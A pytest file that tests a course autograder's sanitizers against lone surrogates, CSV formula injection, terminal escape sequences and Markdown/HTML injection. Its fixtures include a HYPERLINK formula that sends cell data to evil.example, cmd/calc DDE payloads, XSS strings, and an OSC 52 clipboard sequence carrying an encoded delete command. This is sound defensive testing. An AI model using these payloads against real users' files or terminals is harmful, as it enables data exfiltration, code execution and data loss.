"""What the TA opens is safe (grader/report/safetext.py, grader/report/mdtext.py): lone surrogates in any writer, CSV cells a
spreadsheet would run (OWASP CSV injection), control characters on the terminal, and Markdown that shows a
message as it is, with no link, image or HTML the grader did not write (checked by rendering it with the
feedback's own Markdown library, mistune)."""
import csv
import html
import io
import json
import random
import re
import string

import mistune
import pytest
from mistune.helpers import PUNCTUATION, unescape_char

from grader.report.mdtext import md_text
from grader.report.safetext import clean, clean_tree, csv_cell, csv_row, terminal


def render(markdown):
    """The feedback's own renderer (grader/report/writers.py feedback_html)."""
    return mistune.create_markdown(plugins=["table"], escape=True)(markdown)


def visible(rendered):
    return html.unescape(re.sub(r"<[^>]+>", "", rendered)).strip()


def test_lone_surrogates_are_replaced_everywhere_in_a_report():
    report = {"errors": ["cell 3: ValueError: bad \udc80 byte"], "checks": [{"message": "\ud800x", "points": 1}],
              "key\udcff": ("a", 2.5, None, True)}
    cleaned = clean_tree(report)
    text = json.dumps(cleaned, ensure_ascii=False)
    text.encode("utf-8")   # would raise UnicodeEncodeError on the original
    assert cleaned["errors"] == ["cell 3: ValueError: bad \ufffd byte"]
    assert cleaned["checks"][0] == {"message": "\ufffdx", "points": 1}
    assert cleaned["key\ufffd"] == ["a", 2.5, None, True]
    with pytest.raises(UnicodeEncodeError):
        json.dumps(report, ensure_ascii=False).encode("utf-8")


@pytest.mark.parametrize("value, written", [
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"), ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"),
    ("-1.5", "-1.5"), ("+3", "+3"), ("1e-3", "1e-3"), (171, 171), (-2.5, -2.5), ("Anna Ivanova", "Anna Ivanova"),
    ("bad \udc80", "bad \ufffd"), (None, ""),
])
def test_csv_cells_a_spreadsheet_would_run_get_an_apostrophe(value, written):
    assert csv_cell(value) == written


def test_a_csv_row_of_hostile_names_reads_back_neutralised():
    buffer = io.StringIO()
    csv.writer(buffer).writerow(csv_row(['=HYPERLINK("http://x","y")', "1001", "=1+1.ipynb", 171]))
    [row] = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert row == ['\'=HYPERLINK("http://x","y")', "1001", "'=1+1.ipynb", "171"]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_the_terminal_gets_no_escape_sequences():
    line = terminal("alice\x1b]0;pwned\x07\x1b[2J.ipynb: 171 / 207 \udc80\tok")
    assert "\x1b" not in line and "\x07" not in line and "\\x1b]0;pwned\\x07" in line
    assert line.endswith("\ufffd\tok")


def test_mistune_reads_back_every_escape_md_text_writes():
    """md_text escapes with a backslash only characters that the library itself unescapes."""
    assert all(re.fullmatch(PUNCTUATION, ch) and unescape_char("\\" + ch) == ch for ch in string.punctuation)


@pytest.mark.parametrize("message", [
    "``a` [click](http://evil.example) `b``",             # the backtick trick: the regex saw one span
    "`` ` ``[x](javascript:alert(1))",
    "x ``` ![img](http://evil.example/p.png) `` y",
    "<img src=x onerror=alert(1)> <a href='http://evil'>x</a>",
    "<http://evil.example>", "[x]: http://evil.example", "[ref][x]", "&lt;script&gt; &amp; &#60;",
    "1. ordered", "- nested", "+ nested", "# heading", "> quote", "    indented code", "***", "| a | b |",
    "__init__ *not italic* **not bold** ~~not struck~~ a_b_c _x_", "\\`escaped`\\", "trailing backslash \\",
])
def test_a_message_renders_as_itself_with_nothing_the_grader_did_not_write(message):
    for markdown in (f"- {md_text(message)}\n", f"| a | b |\n|---|---|\n| x | {md_text(message, table=True)} |\n"):
        rendered = render(markdown)
        assert not re.search(r"<(a|img|em|strong|del|h\d|blockquote|ol|pre|script|hr)\b", rendered), (markdown, rendered)
        assert rendered.count("<li>") <= 1 and rendered.count("<td>") in (0, 2), rendered
        if "`" not in message:
            shown = visible(rendered).split("\n")[-1].strip() if "<td>" in rendered else visible(rendered)
            assert shown == message.strip(), (markdown, rendered)


def test_the_graders_code_spans_are_kept():
    assert md_text("`Linear.forward` returned NaN") == "`Linear.forward` returned NaN"
    assert "<td>x | y</td>" in render(f"| a |\n|---|\n| {md_text('`x | y`', table=True)} |\n")
    assert md_text("HW3_Modules.ipynb graded as HW3_Modules.ipynb") == "HW3_Modules.ipynb graded as HW3_Modules.ipynb"


def test_random_punctuation_never_makes_markup():
    rng = random.Random(19)
    alphabet = string.punctuation + "ab1 _*`[]()<>!&#|\\~\u00e9"
    for _ in range(2000):
        message = "".join(rng.choice(alphabet) for _ in range(rng.randint(1, 30)))
        rendered = render(f"- {md_text(message)}\n")
        assert not re.search(r"<(a|img|em|strong|del|h\d|blockquote|ol|pre|hr)\b", rendered), (message, rendered)
        if "`" not in message:
            assert visible(rendered) == message.strip(), (message, md_text(message), rendered)


def test_control_characters_of_a_message_are_shown_never_written():
    """An exception message's escape sequences (OSC 52 fills a terminal's clipboard), NUL and C1 controls are shown
    as \\xNN in every report string; tab, newline and carriage return stay (code keeps its layout)."""
    report = clean_tree({"errors": ["ValueError: \x1b]52;c;cm0gLXJmIH4K\x07 NUL\x00 \x9b31m \x7f"],
                         "checks": [{"message": "line\tone\nline two\r\n"}]})
    assert report["errors"] == ["ValueError: \\x1b]52;c;cm0gLXJmIH4K\\x07 NUL\\x00 \\x9b31m \\x7f"]
    assert report["checks"][0]["message"] == "line\tone\nline two\r\n"
    assert clean(clean("\x1b")) == clean("\x1b") == "\\x1b"   # cleaning twice (--resume) changes nothing more
